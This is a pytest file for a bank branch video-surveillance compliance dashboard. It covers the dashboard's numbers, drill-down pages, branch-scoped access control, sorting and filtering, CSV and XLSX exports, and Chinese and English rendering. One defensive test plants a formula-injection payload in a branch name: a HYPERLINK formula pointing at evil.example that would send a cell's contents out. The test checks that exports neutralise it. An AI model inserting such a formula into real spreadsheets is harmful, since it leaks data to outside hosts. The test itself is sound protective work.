"""The compliance dashboard and its drill-down on a small known dataset.

Two runs of the web fixture's fleet (B1 in Beijing time, B2 in Urumqi): two days ago all
was well; ten minutes ago B1's counter camera held 12.5 of 30 days with gaps on two
business days and its NVR's clock was 75 s off, while B2's NVR refused our password.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest
from openpyxl import load_workbook
from sqlalchemy import event, insert

from tests.conftest import REPO
from tests.web.conftest import WebEnv, build_web_env
from vidaudit.db.models import (
    BranchResultRow,
    BranchRow,
    ChannelObservationRow,
    CollectionRunRow,
    DailyCheckRow,
    DeviceObservationRow,
    FaultTicketRow,
    FindingRow,
    ReviewRow,
    SnapshotRow,
    UserRow,
)
from vidaudit.evidence.store import EvidenceStore
from vidaudit.inventory.schema import Policy
from vidaudit.review.register import Entry, append
from vidaudit.web.i18n import LANGUAGES, Catalogue
from vidaudit.web.views.dashboard_data import PROBLEMS, View, dashboard_rows, select_rows
from vidaudit.web.views.dashboard_detail import (
    DIAG_CHECKS,
    ERROR_KINDS,
    KNOWN_RULES,
    explain,
    recording_timeline,
    rule_slug,
)

LOCALES = REPO / "web" / "locales"


def utc(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text).replace(tzinfo=dt.UTC)


@dataclass(frozen=True)
class Seeded:
    latest_at: dt.datetime
    first_at: dt.datetime
    snapshot_sha: str
    frame_sha: str


def _channel_obs(
    run_id: int, at: dt.datetime, channel: str, branch: str, **values: Any
) -> dict[str, Any]:
    row: dict[str, Any] = {
        "run_id": run_id,
        "channel_id": channel,
        "device_id": f"{branch}-NVR",
        "branch_id": branch,
        "observed_at": at,
        "recording_state": "recording",
        "earliest": at - dt.timedelta(days=40),
        "latest": at,
        "retention_days": 40.0,
        "required_days": 30,
        "verified": False,
        "occupancy": 1.0,
        "gaps": [],
        "business_days": [],
        "business_hours_covered": True,
        "audio": None,
        "compliant": True,
        "violations": [],
    }
    row.update(values)
    return row


def _run(db: Any, at: dt.datetime) -> int:
    run = CollectionRunRow(
        started_at=at - dt.timedelta(seconds=20),
        finished_at=at,
        status="completed",
        policy=Policy().model_dump(mode="json"),
    )
    db.add(run)
    db.flush()
    return run.id


def jpeg() -> bytes:
    """A legible test picture: a counter scene in outline."""
    image = np.full((360, 640, 3), (70, 60, 50), np.uint8)
    cv2.rectangle(image, (40, 200), (600, 330), (40, 110, 170), -1)
    cv2.rectangle(image, (250, 60), (390, 200), (200, 200, 200), 3)
    cv2.putText(image, "B1-C1", (20, 40), cv2.FONT_HERSHEY_SIMPLEX, 1.0, (255, 255, 255), 2)
    ok, data = cv2.imencode(".jpg", image)
    assert ok
    return bytes(data.tobytes())


def seed(env: WebEnv) -> Seeded:
    now = env.now
    first = now - dt.timedelta(days=2)
    latest = now - dt.timedelta(minutes=10)
    store = EvidenceStore(env.settings.data_dir / "evidence")
    with env.sessions.begin() as db:
        run1 = _run(db, first)
        db.execute(
            insert(DeviceObservationRow),
            [
                {
                    "run_id": run1,
                    "device_id": f"{b}-NVR",
                    "branch_id": b,
                    "observed_at": first,
                    "online": True,
                    "error_kind": None,
                    "error_message": None,
                    "clock_drift_s": 2.0,
                    "manufacturer": "Hikvision",
                    "model": "DS-7616NI-K2",
                    "firmware": "V4.30",
                    "services": [],
                    "violations": [],
                }
                for b in ("B1", "B2")
            ],
        )
        db.execute(
            insert(ChannelObservationRow),
            [
                _channel_obs(run1, first, f"{b}-C{n}", b, retention_days=40.0 + n)
                for b in ("B1", "B2")
                for n in (1, 2)
            ],
        )
        for b in ("B1", "B2"):
            db.add(
                BranchResultRow(
                    run_id=run1,
                    branch_id=b,
                    observed_at=first,
                    compliant=True,
                    devices_down=0,
                    channels=2,
                    channels_compliant=2,
                    violations=0,
                )
            )

        run2 = _run(db, latest)
        db.execute(
            insert(DeviceObservationRow),
            [
                {
                    "run_id": run2,
                    "device_id": "B1-NVR",
                    "branch_id": "B1",
                    "observed_at": latest,
                    "online": True,
                    "error_kind": None,
                    "error_message": None,
                    "clock_drift_s": -75.4,
                    "manufacturer": "Hikvision",
                    "model": "DS-7616NI-K2",
                    "firmware": "V4.30",
                    "services": [],
                    # read through ISAPI: every disk listed (one failed)
                    "storage": [
                        {
                            "id": "hdd1",
                            "status": "ok",
                            "state": "ok",
                            "capacity_bytes": 4000 * 1024**3,
                            "free_bytes": 1536 * 1024**3,
                        },
                        {
                            "id": "hdd2",
                            "status": "error",
                            "state": "error",
                            "capacity_bytes": 4000 * 1024**3,
                            "free_bytes": None,
                        },
                    ],
                    "violations": [
                        {
                            "rule": "R3.clock",
                            "severity": "major",
                            "detail": "device clock is -75 s off (allowed ±60 s)",
                            "evidence": {"drift_s": -75.4, "max_s": 60},
                        }
                    ],
                },
                {
                    "run_id": run2,
                    "device_id": "B2-NVR",
                    "branch_id": "B2",
                    "observed_at": latest,
                    "online": False,
                    "error_kind": "auth",
                    "error_message": "NotAuthorized",
                    "clock_drift_s": None,
                    "manufacturer": None,
                    "model": None,
                    "firmware": None,
                    "services": [],
                    "storage": None,
                    "violations": [
                        {
                            "rule": "R6.offline",
                            "severity": "critical",
                            "detail": "device cannot be read: auth",
                            "evidence": {"error_kind": "auth"},
                        }
                    ],
                },
            ],
        )
        # B1-C1: 12.5 of 30 days, an afternoon gap three days ago, and two business days
        # not recorded from before opening (R2).
        local_gap = (latest - dt.timedelta(days=3)).replace(hour=6, minute=0, second=0)
        short_gaps = [[local_gap.isoformat(), (local_gap + dt.timedelta(hours=3)).isoformat()]]
        missed_days = [
            (latest - dt.timedelta(days=3)).astimezone(dt.UTC).date().isoformat(),
            (latest - dt.timedelta(days=5)).astimezone(dt.UTC).date().isoformat(),
        ]
        db.execute(
            insert(ChannelObservationRow),
            [
                _channel_obs(
                    run2,
                    latest,
                    "B1-C1",
                    "B1",
                    earliest=latest - dt.timedelta(days=12.5),
                    retention_days=12.5,
                    occupancy=0.41,
                    gaps=short_gaps,
                    business_days=[
                        {"date": missed_days[0], "covered": False, "missing_min": 180.0},
                        {"date": missed_days[1], "covered": False, "missing_min": 35.0},
                    ],
                    business_hours_covered=False,
                    compliant=False,
                    violations=[
                        {
                            "rule": "R1.retention",
                            "severity": "critical",
                            "detail": "12.5 days of footage held, 30 required",
                            "evidence": {"held_days": 12.5, "required_days": 30},
                        },
                        {
                            "rule": "R2.business_hours",
                            "severity": "major",
                            "detail": "2 business day(s) not recorded",
                            "evidence": {"days": missed_days, "missing_min": 215.0},
                        },
                    ],
                ),
                _channel_obs(
                    run2,
                    latest,
                    "B1-C2",
                    "B1",
                    retention_days=95.0,
                    required_days=90,
                    verified=True,
                ),
            ]
            + [
                _channel_obs(
                    run2,
                    latest,
                    f"B2-C{n}",
                    "B2",
                    earliest=None,
                    latest=None,
                    retention_days=None,
                    occupancy=None,
                    gaps=None,
                    business_hours_covered=None,
                    recording_state="unknown",
                    compliant=False,
                    violations=[
                        {
                            "rule": "R6.offline",
                            "severity": "critical",
                            "detail": "channel not checked: its device cannot be read (auth)",
                            "evidence": {"error_kind": "auth"},
                        }
                    ],
                )
                for n in (1, 2)
            ],
        )
        for b, ok, down, total_ok in (("B1", False, 0, 1), ("B2", False, 1, 0)):
            db.add(
                BranchResultRow(
                    run_id=run2,
                    branch_id=b,
                    observed_at=latest,
                    compliant=ok,
                    devices_down=down,
                    channels=2,
                    channels_compliant=total_ok,
                    violations=3,
                )
            )

        def ticket(branch: str, subject: str, rule: str, closed: bool) -> FaultTicketRow:
            return FaultTicketRow(
                branch_id=branch,
                subject_kind="device" if subject.endswith("NVR") else "channel",
                subject_id=subject,
                rule=rule,
                severity="critical",
                detail=rule,
                evidence={},
                owner_role="administrator",
                notify_roles=["branch_head", "security"],
                opened_at=first,
                last_seen_at=latest,
                closed_at=latest if closed else None,
                opened_run_id=run1,
                closed_run_id=run2 if closed else None,
                occurrences=2,
            )

        db.add_all(
            [
                ticket("B1", "B1-C1", "R1.retention", closed=False),
                ticket("B1", "B1-C2", "R6.not_recording", closed=True),
                ticket("B2", "B2-NVR", "R6.offline", closed=False),
            ]
        )

        users = {u.username: u for u in db.query(UserRow)}
        entry = append(
            db,
            Entry(
                actor="admin",
                actor_role="administrator",
                action="review",
                reason="weekly review",
                branch_id="B1",
                channel_id="B1-C1",
            ),
            now,
        )
        review = ReviewRow(
            branch_id="B1",
            channel_id="B1-C1",
            reviewer_id=users["admin"].id,
            reviewer_role="administrator",
            window_start=now - dt.timedelta(hours=3),
            window_end=now - dt.timedelta(hours=2),
            submitted_at=now - dt.timedelta(minutes=1),
            items={},
            summary="",
            register_seq=entry.seq,
        )
        db.add(review)
        db.flush()
        today = now.date()
        for status, deadline in (
            ("open", today - dt.timedelta(days=3)),  # overdue
            ("reopened", today + dt.timedelta(days=5)),  # not yet due
            ("fixed", today - dt.timedelta(days=3)),  # fix reported: awaits checking
        ):
            db.add(
                FindingRow(
                    review_id=review.id,
                    branch_id="B1",
                    channel_id="B1-C1",
                    item_code="counter.two_staff",
                    note="one teller alone",
                    frames=[],
                    owner_id=users["head"].id,
                    deadline=deadline,
                    status=status,
                    created_at=now,
                    updated_at=now,
                    version=1,
                )
            )
        db.add(
            DailyCheckRow(
                branch_id="B1",
                day=now.astimezone(dt.UTC).date(),
                user_id=users["admin"].id,
                confirmed_at=now,
                run_id=run2,
                outcome="ok",
            )
        )
        picture = store.put(db, jpeg(), "image/jpeg", {"channel": "B1-C1"}, now)
        db.add(
            SnapshotRow(
                channel_id="B1-C1",
                taken_at=latest,
                run_id=run2,
                evidence_sha256=picture.sha256,
                diagnostics={
                    "verdict": "fail",
                    "primary": "blur",
                    "checks": {
                        "no_signal": {"verdict": "pass", "score": 6.1},
                        "blur": {"verdict": "fail", "score": 0.004},
                    },
                },
                error=None,
            )
        )
        # A frame pulled from recorded footage (not a snapshot): D4 governs it.
        pulled = store.put(db, jpeg() + b"pulled", "image/jpeg", {"channel": "B1-C1"}, now)
    return Seeded(latest, first, picture.sha256, pulled.sha256)


@pytest.fixture
def dash(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[WebEnv]:
    env = build_web_env(db_url, monkeypatch, data_dir=tmp_path / "data")
    env.seeded = seed(env)  # type: ignore[attr-defined]
    yield env
    env.engine.dispose()


def row_html(page: str, branch: str) -> str:
    found = re.search(rf'<tr id="row-{branch}".*?</tr>', page, re.S)
    assert found, f"no dashboard row for {branch}"
    return found.group(0)


def cell(row: str, column: str) -> str:
    found = re.search(rf'<td[^>]*data-col="{column}"[^>]*>(.*?)</td>', row, re.S)
    assert found, column
    return " ".join(re.sub(r"<[^>]+>", " ", found.group(1)).split())


def cell_class(row: str, column: str) -> str:
    found = re.search(rf'<td class="([^"]*)" data-col="{column}"', row)
    assert found, column
    return found.group(1)


# --- the numbers -----------------------------------------------------------------------


def test_dashboard_rows_hold_the_known_numbers(dash: WebEnv) -> None:
    seeded: Seeded = dash.seeded  # type: ignore[attr-defined]
    with dash.sessions() as db:
        rows = {r.branch_id: r for r in dashboard_rows(db, None, None, dash.now)}
    b1, b2 = rows["B1"], rows["B2"]
    assert b1.run is not None and b1.run.observed_at == seeded.latest_at
    assert (b1.channels_compliant, b1.channels) == (1, 2)
    assert (b1.worst_channel, b1.worst_held, b1.worst_required) == ("B1-C1", 12.5, 30)
    assert b1.worst_verified is False and b1.retention_short == 1 and b1.verified == 1
    assert b1.max_drift_s == pytest.approx(75.4) and b1.drift_bad
    assert (b1.devices_down, b1.hours_channels, b1.hours_days) == (0, 1, 2)
    assert (b1.open_tickets, b1.overdue) == (1, 1)
    assert b1.last_compliant == seeded.first_at
    assert b1.duties is not None and b1.duties.admin_reviews == 1
    assert b1.duties.head_reviews == 0
    assert (b2.devices_down, b2.down_kinds, b2.retention_unknown) == (1, {"auth": 1}, 2)
    assert (b2.channels_compliant, b2.worst_held, b2.open_tickets, b2.overdue) == (0, None, 1, 0)
    assert set(b1.problems) >= {"channels", "retention", "drift", "hours", "tickets", "overdue"}
    assert "down" not in b1.problems and "down" in b2.problems


def test_dashboard_page_shows_numbers_and_colours(dash: WebEnv) -> None:
    with dash.client_as("sec") as client:
        page = client.get("/")
    assert page.status_code == 200
    assert "您好,保卫部王科长" in page.text and "全部网点" in page.text
    b1, b2 = row_html(page.text, "B1"), row_html(page.text, "B2")
    assert cell(b1, "compliance") == "1/2" and "cell-bad" in cell_class(b1, "compliance")
    assert "12.5 / 30 天" in cell(b1, "retention") and "未验证" in cell(b1, "retention")
    assert "1 个通道不足" in cell(b1, "retention")
    assert cell(b1, "drift") == "75 秒" and "cell-bad" in cell_class(b1, "drift")
    assert cell(b1, "hours") == "1 个通道 缺录 2 天"
    assert cell(b1, "tickets") == "1" and cell(b1, "overdue") == "1"
    assert "cell-bad" in cell_class(b1, "overdue")
    assert "D2 1/2" in cell(b1, "duties") and "D3 0/1" in cell(b1, "duties")
    assert cell(b2, "down").startswith("1/1") and "登录认证失败" in cell(b2, "down")
    assert cell(b2, "overdue") == "0" and "cell-ok" in cell_class(b2, "overdue")
    assert "2 个通道无法确认" in cell(b2, "retention")
    # last compliant: two days ago, in each branch's own zone (Urumqi is UTC+6)
    assert "UTC+06:00" in b2 and "UTC+06:00" not in b1


def test_branch_page_explains_rules_and_shows_devices_and_tickets(dash: WebEnv) -> None:
    with dash.client_as("head") as client:
        zh = client.get("/branches/B1").text
        en = client.get("/branches/B1?lang=en").text
    assert "R1 录像保存期不足" in zh and "保存了 12.5 天录像,要求至少 30 天" in zh
    assert "R2 未提前开机、延迟关机" in zh and "共缺 215.0 分钟" in zh
    assert "R1 retention too short" in en and "12.5 days of footage held, at least 30" in en
    assert "41.0%" in zh  # occupancy
    assert "-75 秒" in zh and "DS-7616NI-K2" in zh
    tickets = re.search(r'<table class="dash" id="tickets-table">.*?</table>', zh, re.S)
    assert tickets and "B1-C1" in tickets.group(0) and "B1-C2" not in tickets.group(0)
    with dash.client_as("sec") as client:
        b2 = client.get("/branches/B2").text
    assert "登录认证失败" in b2 and "无法读取设备:登录认证失败" in b2


def test_device_and_channel_pages(dash: WebEnv) -> None:
    seeded: Seeded = dash.seeded  # type: ignore[attr-defined]
    with dash.client_as("head") as client:
        device = client.get("/devices/B1-NVR")
        device_en = client.get("/devices/B1-NVR?lang=en")
        channel = client.get("/channels/B1-C1")
        channel_en = client.get("/channels/B1-C1?lang=en")
    assert device.status_code == 200 and 'id="drift-chart"' in device.text
    assert "-75.4" in device.text and "+2.0" in device.text  # both runs in the history
    # the disks the recorder listed, in Chinese and in English
    disks = device.text[device.text.index('id="disk-table"') :]
    assert "<td>hdd1</td>" in disks and "<td>hdd2</td>" in disks
    assert re.search(r'class="cell-ok">正常', disks) and re.search(r'class="cell-bad">故障', disks)
    assert "3.9 TB" in disks and "1.5 TB" in disks and "—" in disks
    assert "容量" in device.text and "剩余空间" in device.text
    assert "Free" in device_en.text and re.search(r'class="cell-bad">failed', device_en.text)
    page = channel.text
    assert channel.status_code == 200
    assert '<svg id="timeline"' in page and page.count('class="day') == 30
    assert 'class="tl-gap"' in page and 'class="tl-none"' in page  # the gap, the shortfall
    assert 'class="tl-business"' in page and "day-missed" in page
    assert '<svg id="retention-chart"' in page and "<polyline" in page
    assert f'src="/evidence/{seeded.snapshot_sha}"' in page
    assert "画面异常" in page and "模糊" in page
    assert "Recording over the last 30 days" in channel_en.text and "blur" in channel_en.text


# --- scope ---------------------------------------------------------------------------------


def test_branch_head_sees_only_her_branch(dash: WebEnv) -> None:
    seeded: Seeded = dash.seeded  # type: ignore[attr-defined]
    with dash.client_as("head") as client:
        page = client.get("/").text
        assert 'id="row-B1"' in page and 'id="row-B2"' not in page and "河西分理处" not in page
        for path in ("/branches/B2", "/devices/B2-NVR", "/channels/B2-C1", "/branches/NOPE"):
            response = client.get(path)
            assert response.status_code == 403, path
            assert "河西分理处" not in response.text
        exported = client.get("/dashboard.csv").content.decode("utf-8-sig")
        assert "B1" in exported and "B2" not in exported
        assert client.get(f"/evidence/{seeded.snapshot_sha}").status_code == 200
    with dash.client_as("head2") as client:
        assert 'id="row-B1"' not in client.get("/").text
        assert client.get(f"/evidence/{seeded.snapshot_sha}").status_code == 403
        assert client.get("/channels/B1-C1").status_code == 403


def test_unknown_ids_are_404_not_500(dash: WebEnv) -> None:
    seeded: Seeded = dash.seeded  # type: ignore[attr-defined]
    with dash.client_as("sec") as client:
        for path in (
            "/branches/NOPE",
            "/devices/NOPE",
            "/channels/NOPE",
            "/evidence/1",
            "/evidence/" + "0" * 64,
            # a frame pulled from footage is not a snapshot: D4 pages serve it, not this
            f"/evidence/{seeded.frame_sha}",
        ):
            assert client.get(path).status_code == 404, path


def test_evidence_is_the_stored_image(dash: WebEnv) -> None:
    seeded: Seeded = dash.seeded  # type: ignore[attr-defined]
    with dash.client_as("sec") as client:
        image = client.get(f"/evidence/{seeded.snapshot_sha}")
    assert image.status_code == 200 and image.headers["content-type"] == "image/jpeg"
    assert image.content == jpeg() and image.headers["cache-control"] == "no-store"


# --- sort and filter ---------------------------------------------------------------------


def order(page: str) -> list[str]:
    return re.findall(r'<tr id="row-([^"]+)"', page)


def test_sorting_and_filtering(dash: WebEnv) -> None:
    with dash.client_as("sec") as client:
        assert order(client.get("/?sort=branch&dir=asc").text) == ["B1", "B2"]
        assert order(client.get("/?sort=branch&dir=desc").text) == ["B2", "B1"]
        assert order(client.get("/?sort=drift").text) == ["B1", "B2"]  # problems first
        assert order(client.get("/?sort=down").text) == ["B2", "B1"]
        assert order(client.get("/?problem=down").text) == ["B2"]
        assert order(client.get("/?problem=overdue").text) == ["B1"]
        assert order(client.get("/?q=河西").text) == ["B2"]
        assert order(client.get("/?q=b1").text) == ["B1"]
        nothing = client.get("/?problem=down&q=B1").text
        assert order(nothing) == [] and 'id="no-match"' in nothing
        # nonsense is ignored, never an error
        assert client.get("/?sort=evil&dir=sideways&problem=<x>").status_code == 200
        page = client.get("/?sort=down&dir=desc").text
        assert 'href="/?sort=down&amp;dir=asc"' in page  # clicking again flips it


def test_view_parse_and_select_are_pure() -> None:
    view = View.parse(" 城关 ", "any", "tickets", None)
    assert (view.q, view.problem, view.sort, view.desc) == ("城关", "any", "tickets", True)
    assert View.parse(None, "bogus", "bogus", "bogus") == View()
    assert select_rows([], view) == []


# --- exports ---------------------------------------------------------------------------


def test_csv_export_has_a_bom_and_the_users_language(dash: WebEnv) -> None:
    with dash.client_as("sec") as client:
        zh = client.get("/dashboard.csv?sort=branch&dir=asc")
        en = client.get("/dashboard.csv?lang=en&problem=down")
    assert zh.status_code == 200 and zh.headers["content-type"].startswith("text/csv")
    assert "attachment" in zh.headers["content-disposition"]
    assert zh.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(zh.content.decode("utf-8-sig"))))
    header = rows[0]
    assert header[:3] == ["网点编号", "网点名称", "最近巡检时间"]
    b1 = dict(zip(header, rows[1], strict=True))
    assert b1["网点编号"] == "B1" and b1["网点名称"] == "城关支行营业部"
    assert (b1["合规通道数"], b1["通道总数"], b1["最差通道保存天数"]) == ("1", "2", "12.5")
    assert (b1["逾期整改"], b1["未关闭故障单"], b1["缺录营业日数"]) == ("1", "1", "2")
    english = list(csv.reader(io.StringIO(en.content.decode("utf-8-sig"))))
    assert english[0][0] == "Branch id" and [r[0] for r in english[1:]] == ["B2"]
    assert "authentication failed" in english[1][english[0].index("Why down")]


def test_xlsx_export_opens_in_openpyxl(dash: WebEnv) -> None:
    with dash.client_as("sec") as client:
        response = client.get("/dashboard.xlsx?sort=branch&dir=asc")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.active
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values[0][0] == "网点编号" and [r[0] for r in values[1:]] == ["B1", "B2"]
    header = values[0]
    b1 = dict(zip(header, values[1], strict=True))
    assert b1["最差通道保存天数"] == 12.5 and b1["合规通道数"] == 1  # numbers, not text
    assert b1["最大时钟偏差(秒)"] == 75.4


def test_exports_neutralise_formulas_in_text_cells(dash: WebEnv) -> None:
    """A branch name (typed by whoever wrote cameras.yaml) that starts like a formula is
    written as text in both formats: the one exporter guards every export."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with dash.sessions.begin() as db:
        row = db.get(BranchRow, "B1")
        assert row is not None
        row.name = evil
    with dash.client_as("sec") as client:
        text = client.get("/dashboard.csv?sort=branch&dir=asc").content.decode("utf-8-sig")
        book = load_workbook(io.BytesIO(client.get("/dashboard.xlsx?sort=branch&dir=asc").content))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "'" + evil
    cell = book.active.cell(2, 2)
    assert cell.value == "'" + evil and cell.data_type == "s"


# --- languages ---------------------------------------------------------------------------


def test_both_languages_render(dash: WebEnv) -> None:
    with dash.client_as("sec") as client:
        zh = client.get("/").text
        en = client.get("/?lang=en").text
    assert 'lang="zh-CN"' in zh and "合规通道" in zh and "最大时钟偏差" in zh
    assert 'lang="en"' in en and "Compliant channels" in en and "Max drift" in en
    assert "authentication failed" in en and "75 s" in en


@pytest.fixture(scope="module")
def catalogue() -> Catalogue:
    return Catalogue.load(LOCALES)


def test_keys_built_from_data_exist(catalogue: Catalogue) -> None:
    rules_source = "\n".join(
        (REPO / "vidaudit" / "compliance" / name).read_text(encoding="utf-8")
        for name in ("rules.py", "identity.py")
    )
    written = set(re.findall(r'"(R\d\.[a-z_]+)"', rules_source))
    assert written == set(KNOWN_RULES), "a rule was added or renamed: explain it here"
    needed = (
        {f"dashboard.rule.{rule_slug(r)}" for r in KNOWN_RULES}
        | {f"dashboard.rule_text.{rule_slug(r)}" for r in KNOWN_RULES}
        | {f"dashboard.problem.{p}" for p in PROBLEMS}
        | {f"dashboard.duty.{s}" for s in ("missed", "due", "done", "unknown")}
        | {f"dashboard.error_kind.{k}" for k in ERROR_KINDS}
        | {f"dashboard.diag.{c}" for c in DIAG_CHECKS}
        | {f"dashboard.weekday.{d}" for d in range(7)}
        | {f"dashboard.tl.{k}" for k in ("rec", "gap", "none", "unchecked")}
        | {f"dashboard.kind.{k}" for k in ("nvr", "camera")}
        | {f"dashboard.check_verdict.{v}" for v in ("pass", "fail", "skipped")}
        | {f"dashboard.diag_verdict.{v}" for v in ("pass", "fail")}
        | {f"dashboard.severity.{v}" for v in ("critical", "major", "minor")}
        | {
            f"dashboard.channel_role.{r}"
            for r in ("counter", "cash_area", "vault", "atm", "entrance", "lobby")
        }
    )
    for lang in LANGUAGES:
        assert needed <= set(catalogue.messages[lang]), needed - set(catalogue.messages[lang])


@pytest.mark.parametrize("lang", LANGUAGES)
def test_every_rule_explanation_fills_its_placeholders(catalogue: Catalogue, lang: str) -> None:
    t = catalogue.translator(lang)
    evidence = {
        "held_days": 3.2,
        "required_days": 30,
        "days": ["2026-11-18", "2026-11-19"],
        "missing_min": 42.0,
        "drift_s": 90.0,
        "max_s": 60,
        "error_kind": "timeout",
        "age_min": 31,
    }
    for rule in KNOWN_RULES:
        said = explain({"rule": rule, "severity": "major", "evidence": evidence}, t)
        assert "{" not in said.text and said.title.startswith(rule[:2]), (rule, said)
    odd = explain({"rule": "R9.future", "detail": "something new"}, t)
    assert (odd.title, odd.text) == ("R9.future", "something new")


# --- the timeline, without a browser -----------------------------------------------------


def test_timeline_marks_gaps_shortfall_and_business_hours(dash: WebEnv) -> None:
    from vidaudit.inventory.calendar import branch_calendar

    with dash.sessions() as db:
        obs = (
            db.query(ChannelObservationRow)
            .filter_by(channel_id="B1-C1")
            .order_by(ChannelObservationRow.observed_at.desc())
            .first()
        )
        from vidaudit.db.models import BranchRow

        branch = db.get(BranchRow, "B1")
        assert obs is not None and branch is not None
        timeline = recording_timeline(obs, branch_calendar(branch, None), Policy(), "Asia/Shanghai")
    assert timeline is not None and len(timeline.days) == 30
    kinds = [{s.kind for s in day.segments} for day in timeline.days]
    assert kinds[0] == {"none"}  # 29 days ago: before the oldest footage (12.5 days)
    assert any("gap" in k for k in kinds) and kinds[-1] >= {"rec"}
    # the fixture's hours: Mondays 08:30-17:00 only, so business marks fall on Mondays
    marked = [day.date.weekday() for day in timeline.days if day.business]
    assert marked and set(marked) == {0}
    for day in timeline.days:
        widths = sum(s.w for s in day.segments)
        assert widths <= timeline.bar_w + 0.5


def test_the_dashboard_runs_a_fixed_number_of_statements(dash: WebEnv) -> None:
    """No query per branch: the statement count does not depend on how many rows there
    are (checked here with 2 branches; bench/web.py runs 100)."""
    statements: list[str] = []

    def count(*args: Any) -> None:
        statements.append(str(args[2]))

    event.listen(dash.engine, "before_cursor_execute", count)
    try:
        with dash.sessions() as db:
            dashboard_rows(db, None, None, dash.now)
            first = len(statements)
            dashboard_rows(db, {"B1"}, None, dash.now)
    finally:
        event.remove(dash.engine, "before_cursor_execute", count)
    assert first <= 12 and len(statements) - first == first, json.dumps(statements)[:500]
